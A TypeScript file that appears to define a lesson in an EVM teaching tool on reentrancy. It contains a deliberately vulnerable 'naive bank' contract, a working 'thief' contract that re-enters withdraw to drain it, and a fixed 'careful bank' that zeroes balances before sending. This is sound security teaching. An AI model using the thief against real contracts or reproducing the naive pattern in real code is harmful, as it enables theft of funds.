import { A, ALICE, B, C, code, type EvmExample, pane } from "./example";

const bank = (withdraw: string) => `    %dispatch "deposit()", @deposit, "withdraw()", @withdraw
    %revert "no such function"

deposit:
    CALLER
    %mapping 0
    DUP1
    SLOAD
    CALLVALUE
    ADD
    SWAP1
    SSTORE
    STOP

withdraw:
    CALLER
    %mapping 0                  ; slot
    DUP1
    SLOAD                       ; amount, slot
    DUP1
    %require "nothing to withdraw"
${withdraw}    STOP
`;

const SEND = `    PUSH 0                      ; nothing comes back,
    PUSH 0
    PUSH 0                      ; nothing goes along
    PUSH 0
    DUP5                        ; but the amount
    CALLER
    GAS
    CALL
    %require "sending failed"
`;

const NAIVE = `; Sends the money, then writes down that it is gone.
${bank(`${SEND}    POP
    PUSH 0
    SWAP1
    SSTORE                      ; too late
`)}`;

const CAREFUL = `; Writes down that the money is gone, then sends it.
${bank(`    PUSH 0
    DUP3
    SSTORE                      ; first of all
${SEND}`)}`;

const THIEF = `; attack(bank): pays in once, and takes out again and again.
    %dispatch "attack(address)", @attack

; Anything else: money comes in. While the bank has as much again, ask for more.
    CALLVALUE
    CALLER
    BALANCE
    LT
    PUSH @enough
    JUMPI
    CALLER
    PUSH @withdraw
    JUMP

enough:
    STOP

attack:
    PUSH32 selector("deposit()") << 224
    PUSH 0
    MSTORE
    PUSH 0
    PUSH 0
    PUSH 4
    PUSH 0
    CALLVALUE
    %argument 0
    GAS
    CALL
    POP
    %argument 0                 ; bank

withdraw:                       ; bank
    PUSH32 selector("withdraw()") << 224
    PUSH 0
    MSTORE
    PUSH 0
    PUSH 0
    PUSH 4
    PUSH 0
    PUSH 0
    DUP6
    GAS
    CALL
    STOP
`;

const ATTACK = "attack(address)";

export const REENTRANCY: EvmExample = {
  id: "reentrancy",
  summary: "A bank that pays before it writes down that it paid, robbed; and the one line that helps.",
  about: [
    [
      "Sending ether to a contract runs that contract's code. A bank that sends first and writes later gives the receiver a moment in which the money is gone, but the books do not say so.",
    ],
    [
      "The thief at ",
      code("0xcc"),
      " pays 1 wei into a bank that holds 3 wei of others. Whenever money arrives it asks for more. Look at the ",
      pane("calls", "calls"),
      ": in the first transaction, at the naive bank, withdraw is entered four times, each within the last.",
    ],
    [
      "The second transaction tries the same at the careful bank, which sets the balance to zero before it sends. The inner withdraw finds nothing, and fails; the thief gets its own wei back, no more. ",
      pane("accounts", "Accounts"),
      " shows who has what.",
    ],
  ],
  tries: [
    [
      "In transaction 1 press “Next call” again and again, and watch the bank's balance in ",
      pane("accounts", "Accounts"),
      ".",
    ],
    ["Find the ", code("SSTORE"), " in both banks: how many calls come before it?"],
    ["In transaction 2 go to the failure mark on the slider: it says ", code("nothing to withdraw"), "."],
  ],
  project: {
    title: "Reentrancy, and the fix",
    request: {
      fork: "Osaka",
      transactions: [
        { from: ALICE, to: C, value: "1", gas: 2_000_000, call: { signature: ATTACK, values: [A] } },
        { from: ALICE, to: C, value: "1", gas: 2_000_000, call: { signature: ATTACK, values: [B] } },
      ],
    },
    sources: [
      { address: A, name: "naive bank", text: NAIVE, balance: "3" },
      { address: B, name: "careful bank", text: CAREFUL, balance: "3" },
      { address: C, name: "thief", text: THIEF },
    ],
    abi: ["deposit()", "withdraw()", ATTACK],
  },
};
